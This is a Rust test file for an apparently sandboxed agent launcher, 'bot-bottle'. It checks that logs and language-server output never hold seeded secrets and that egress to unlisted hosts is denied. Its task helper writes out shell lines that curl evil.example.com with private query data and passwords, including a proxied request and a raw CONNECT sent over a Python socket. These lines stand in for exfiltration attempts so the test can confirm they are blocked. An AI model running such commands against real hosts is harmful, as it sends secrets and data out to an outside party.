//! What `-v` and `BOT_BOTTLE_LOG` say of a launch, and what they never say.

use super::*;
use crate::upstream::{Authority, Upstream};
use std::path::Path;

/// What no log may hold: each text stands where a launch meets it.
struct Private(Vec<(&'static str, String)>);

impl Private {
    fn new() -> Self {
        let places = [
            "login",
            "token",
            "variable",
            "literal",
            "prompt",
            "task",
            "header",
            "body",
            "query",
            "path",
            "plain-query",
            "refused-query",
            "password",
            "answer",
            "answer-header",
            "output",
            "argument",
            "document",
        ];
        // Not what looks like a credential: nothing may rest on that.
        let text =
            |(n, place): (usize, &'static str)| (place, format!("private-{}-{n}", place.replace('-', "")));
        Self(places.into_iter().enumerate().map(text).collect())
    }

    fn of(&self, place: &str) -> &str {
        &self.0.iter().find(|(name, _)| *name == place).expect(place).1
    }

    #[track_caller]
    fn is_absent_from(&self, log: &str) {
        assert!(!log.is_empty());
        for (place, text) in &self.0 {
            assert!(!log.contains(text.as_str()), "the log holds the {place}:\n{log}");
        }
        assert!(!log.contains(|c: char| c.is_control() && c != '\n'), "{log:?}");
    }
}

/// A home with an agent that has all of it, and the hosts that it asks.
struct Scene {
    world: World,
    private: Private,
    upstreams: [Upstream; 2],
}

impl Scene {
    fn new() -> Option<Self> {
        let world = world()?;
        let private = Private::new();
        let p = |place| private.of(place);
        let bottle = format!(
            "---\nagent_provider: {{auth_token: BOT_BOTTLE_TEST_LOGIN}}\nenv:\n  WORD: {}\n  OTHER: '${{BOT_BOTTLE_TEST_VALUE}}'\n\
             egress:\n  routes:\n    - host: api.github.com\n      auth: {{scheme: Bearer, token_ref: BOT_BOTTLE_TEST_TOKEN}}\n    \
             - host: plain.example.com\n---\n{}\n",
            p("literal"),
            p("document")
        );
        world.write("~/.bot-bottle/bottles/own.md", &bottle);
        world.write("~/.bot-bottle/agents/fix.md", &format!("---\nbottle: own\n---\n{}\n", p("prompt")));
        let authority = Authority::new();
        world.write("ca.pem", &authority.pem);
        let answer = format!("{}\n", p("answer"));
        let kind: &'static str = Box::leak(format!("text/plain; x={}", p("answer-header")).into_boxed_str());
        let (tls, plain) = (answer.clone(), answer);
        let upstreams = [
            Upstream::tls(&authority, &["api.github.com"], move |_| ("200 OK", kind, tls.clone())),
            Upstream::plain(move |_| ("201 Created", kind, plain.clone())),
        ];
        Some(Self { world, private, upstreams })
    }

    /// A shell's words for the agent: it says nothing itself, and asks for all there is.
    fn task(&self) -> String {
        let p = |place| self.private.of(place);
        format!(
            "exec >/dev/null 2>&1; : {}; printf '\\033]0;{}\\007'; \
             curl -sS -H 'X-Own: {}' -d {} https://api.github.com/{}?q={}; curl -sS http://plain.example.com/?{}; \
             curl -sS https://evil.example.com/?{}; curl -sS -x http://127.0.0.1:47128 http://me:{}@evil.example.com/; \
             printf 'CONNECT me:{}@evil.example.com:443 HTTP/1.1\\r\\n\\r\\n' | python3 -c 'import socket,sys; \
             s=socket.create_connection((\"127.0.0.1\",47128)); s.sendall(sys.stdin.buffer.read()); s.recv(99)'; true",
            p("task"),
            p("output"),
            p("header"),
            p("body"),
            p("path"),
            p("query"),
            p("plain-query"),
            p("refused-query"),
            p("password"),
            p("password"),
        )
    }

    fn options(&self) -> Vec<String> {
        let [tls, plain] = self.upstreams.each_ref().map(|u| u.address);
        let ca = self.world.path("ca.pem").display().to_string();
        let hosts = [format!("api.github.com:443:{tls}"), format!("plain.example.com:80:{plain}")];
        let resolve = hosts.into_iter().flat_map(|host| ["--resolve".to_owned(), host]);
        resolve.chain(["--upstream-ca".to_owned(), ca]).collect()
    }

    /// The program with the credentials in its environment.
    fn program(&self) -> std::process::Command {
        let mut command = self.world.program();
        for (name, place) in CREDENTIALS {
            command.env(name, self.private.of(place));
        }
        command.env_remove("BOT_BOTTLE_LOG");
        command
    }

    /// Launches the agent, and gives what stands on standard error.
    fn launch(&self, words: &[&str], log: Option<&str>) -> String {
        let mut command = self.program();
        command.args(words).args(["launch", "fix", "--task", &self.task()]).args(self.options());
        command.envs(log.map(|log| ("BOT_BOTTLE_LOG", log)));
        let output =
            command.args(["--", self.private.of("argument"), &self.task()]).output().expect("it ran");
        let err = String::from_utf8(output.stderr).expect("text");
        assert_eq!(output.status.code(), Some(0), "{err}");
        assert!(output.stdout.is_empty());
        err
    }
}

const CREDENTIALS: [(&str, &str); 3] = [
    ("BOT_BOTTLE_TEST_LOGIN", "login"),
    ("BOT_BOTTLE_TEST_TOKEN", "token"),
    ("BOT_BOTTLE_TEST_VALUE", "variable"),
];

/// The lines of a log, without what stands between them: it begins with the time.
fn lines(text: &str) -> String {
    let is_time = |word: &str| word.len() == 24 && word.ends_with('Z') && word.as_bytes()[10] == b'T';
    let ours = text.lines().filter(|line| line.split(' ').next().is_some_and(is_time));
    ours.map(|line| format!("{line}\n")).collect()
}

/// The number behind a key.
fn number(line: &str, key: &str) -> u64 {
    let rest = line.split_once(&format!(" {key}=")).unwrap_or_else(|| panic!("no {key} in {line}")).1;
    rest.split([' ', '}']).next().and_then(|n| n.parse().ok()).unwrap_or_else(|| panic!("{line}"))
}

#[test]
fn a_launch_says_its_stages_in_order_and_its_requests_by_number() {
    let Some(scene) = Scene::new() else { return };
    for (words, variable) in [(&["-vv"][..], None), (&[][..], Some("trace"))] {
        let log = lines(&scene.launch(words, variable));
        scene.private.is_absent_from(&log);
        let stages: Vec<_> = log
            .lines()
            .filter_map(|l| l.strip_suffix(": begins")?.rsplit_once(" stage{name=")?.1.strip_suffix('}'))
            .collect();
        let expected = [
            "check",
            "credentials",
            "state",
            "image",
            "egress",
            "guest",
            "dirs",
            "pre_copy",
            "files",
            "verify",
            "agent",
            "clean-up",
        ];
        assert_eq!(stages, expected, "{log}");
        let place = |part: &str| log.find(part).unwrap_or_else(|| panic!("no {part:?} in:\n{log}"));
        let order = ["check judge{", "check plan{", "engine launch{name=fix} stage{name=check}: begins"];
        assert!(order.windows(2).all(|pair| place(pair[0]) < place(pair[1])), "{log}");
        for stage in expected {
            let ended = format!(" stage{{name={stage}}}: ended ms=");
            assert!(log.lines().any(|l| l.contains(&ended)), "{stage}: {log}");
        }
        // Programs by name, and how they ended.
        let began = log.lines().find(|l| l.contains("the program begins program=bwrap")).expect("a program");
        let pid = number(began, "pid");
        assert!(log.contains(&format!("the program ended pid={pid} code=0")), "{log}");

        let ended: Vec<_> = log.lines().filter(|l| l.contains(" info egress: ended connection=")).collect();
        let of = |host: &str, word: &str| {
            let found = ended.iter().find(|l| l.contains(&format!(" host={host} ")) && l.contains(word));
            *found.unwrap_or_else(|| panic!("{host} {word}: {ended:#?}"))
        };
        for (line, port) in [
            (
                of("api.github.com", "method=POST host=api.github.com port=443 decision=allowed status=200"),
                443,
            ),
            (
                of(
                    "plain.example.com",
                    "method=GET host=plain.example.com port=80 decision=allowed status=201",
                ),
                80,
            ),
            (
                of(
                    "evil.example.com",
                    "method=CONNECT host=evil.example.com port=443 decision=denied code=host status=403",
                ),
                443,
            ),
            (
                of(
                    "evil.example.com",
                    "method=GET host=evil.example.com port=80 decision=denied code=host status=403",
                ),
                80,
            ),
        ] {
            let (connection, request) = (number(line, "connection"), number(line, "request"));
            let begun = format!(": request connection={connection} request={request} method=");
            let begun = log.lines().find(|l| l.contains(&begun)).unwrap_or_else(|| panic!("{begun}:\n{log}"));
            assert_eq!(number(begun, "port"), port);
            assert!(log.contains(&format!(" debug egress: opened connection={connection}\n")), "{log}");
        }
        let mut numbers: Vec<_> = ended.iter().map(|l| number(l, "request")).collect();
        numbers.sort_unstable();
        numbers.dedup();
        assert_eq!(numbers.len(), ended.len(), "{ended:#?}");
    }
    // All of it was there to be logged.
    let seen = scene
        .upstreams
        .each_ref()
        .map(|u| u.seen().into_iter().map(|r| r.text()).collect::<String>())
        .concat();
    for place in ["token", "header", "body", "query", "path", "plain-query"] {
        assert!(seen.contains(scene.private.of(place)), "{place}: {seen}");
    }
    // Nor does the audit keep what a guest writes as a password.
    for file in files_below(&state(&scene.world).join("logs")) {
        let text = std::fs::read_to_string(&file).unwrap_or_default();
        assert!(!text.contains(scene.private.of("password")), "{}: {text}", file.display());
    }
}

#[test]
fn nothing_is_logged_unasked_and_each_part_by_its_own_level() {
    let Some(scene) = Scene::new() else { return };
    assert_eq!(lines(&scene.launch(&[], None)), "");
    assert_eq!(lines(&scene.launch(&[], Some(""))), "");
    assert_eq!(lines(&scene.launch(&[], Some("off"))), "");
    let log = lines(&scene.launch(&[], Some("egress=info")));
    assert!(log.lines().all(|l| l.contains(" info egress")) && log.lines().count() > 3, "{log}");
    let log = lines(&scene.launch(&["-v"], None));
    assert!(log.contains(" info engine") && !log.contains(" debug "), "{log}");
    // The option has the last word.
    let log = lines(&scene.launch(&["-v"], Some("egress=trace")));
    assert!(log.contains(" info engine") && !log.contains(" debug "), "{log}");
}

#[test]
fn a_server_logs_into_its_file_and_says_nothing_private_there_or_to_the_client() {
    let Some(scene) = Scene::new() else { return };
    scene.world.write("~/.config/bot-bottle/config.yaml", "backend: bubblewrap\n");
    let file = scene.world.path("~/server.log");
    let mut server = scene.program();
    server.env("BOT_BOTTLE_LOG", "trace").arg("lsp").args(["--log-file", &file.display().to_string()]);
    server.args(scene.options());
    let mut client = Client::of(&scene.world, server, able(false), Value::Null);
    client.unanswered.insert("window/showMessageRequest".to_owned());
    let uri = scene.world.uri("~/.bot-bottle/agents/fix.md");
    let text = std::fs::read_to_string(scene.world.path("~/.bot-bottle/agents/fix.md")).expect("text");
    client.open(&uri, &text);
    client.request(
        "textDocument/hover",
        json!({ "textDocument": { "uri": uri }, "position": { "line": 0, "character": 0 } }),
    );
    command(&mut client, "bot-bottle.dryRun", json!([uri]));
    command(&mut client, "bot-bottle.launch", json!([uri, null, scene.task()]));
    said(&mut client, "fix has ended");
    client.send_raw(
        format!("Content-Length: 9\r\n\r\n{{{:8}", scene.private.of("body").get(..7).unwrap_or("x"))
            .as_bytes(),
    );
    let warned = client.until(|c| {
        messages(c, "window/logMessage")
            .into_iter()
            .find(|m| m.contains(" warn lsp: a message that cannot be read"))
    });
    let told = messages(&client, "window/logMessage");
    let launched = lines(
        &told.iter().filter_map(|m| m.strip_prefix("fix: ")).map(|m| format!("{m}\n")).collect::<String>(),
    );
    scene.private.is_absent_from(&launched);
    assert_eq!(client.leave().code(), Some(0));
    let log = std::fs::read_to_string(&file).expect("a log");
    assert_eq!(lines(&log), log, "only lines of its own");
    scene.private.is_absent_from(&log);
    assert!(log.contains(&warned), "{log}");
    let asked = log
        .lines()
        .find(|l| l.contains("request id=") && l.contains("method=textDocument/hover"))
        .expect("it");
    let id = number(asked, "id");
    assert!(log.lines().any(|l| l.contains(&format!("answered id={id} ms="))), "{log}");
    let mode = std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&file).expect("it").permissions());
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn a_server_without_a_named_file_logs_in_the_state_folder_and_unasked_nowhere() {
    let world = World::new(&[]);
    let log = state(&world).join("lsp/server.log");
    assert_eq!(Client::start(&world).leave().code(), Some(0));
    assert!(!log.exists());
    let mut command = world.program();
    command.args(["lsp", "-v"]);
    assert_eq!(Client::of(&world, command, able(false), Value::Null).leave().code(), Some(0));
    let text = std::fs::read_to_string(&log).expect("a log");
    assert!(text.contains("method=initialize") && !text.contains(" debug "), "{text}");
    let refused = world.program().args(["lsp", "--log-file", "here.log"]).output().expect("it ran");
    assert_eq!(refused.status.code(), Some(2));
    let refused = world.program().args(["lsp", "--log-file", "/dev/null"]).output().expect("it ran");
    assert_eq!(refused.status.code(), Some(2));
}

#[test]
fn what_is_no_directive_is_refused_before_anything_is_done() {
    let world = World::new(&[]);
    for words in [&["check"][..], &["-v", "ps"], &["lsp"]] {
        let output = world.program().args(words).env("BOT_BOTTLE_LOG", "loud").output().expect("it ran");
        let err = String::from_utf8_lossy(&output.stderr);
        assert_eq!((output.status.code(), output.stdout.len()), (Some(2), 0), "{err}");
        assert!(
            err.contains("BOT_BOTTLE_LOG: `loud`") && err.contains("trace") && err.contains("egress"),
            "{err}"
        );
    }
}

#[test]
fn check_says_its_phases_and_the_files_that_it_reads_wherever_the_flag_stands() {
    let world = World::new(&[("a.bottle.yaml", BOTTLE)]);
    for words in [["-vv", "check"], ["check", "-vv"]] {
        let output = world.program().args(words).output().expect("it ran");
        assert_eq!(output.status.code(), Some(0));
        let log = lines(&String::from_utf8_lossy(&output.stderr));
        for phase in ["baseline", "walk", "examine", "report"] {
            assert!(log.contains(&format!("cli {phase}: ended ms=")), "{phase}: {log}");
        }
        assert!(log.lines().any(|l| l.contains("read file=") && l.contains("a.bottle.yaml")), "{log}");
    }
}

fn files_below(folder: &Path) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(folder).into_iter().flatten().flatten().map(|e| e.path());
    entries.flat_map(|path| if path.is_dir() { files_below(&path) } else { vec![path] }).collect()
}
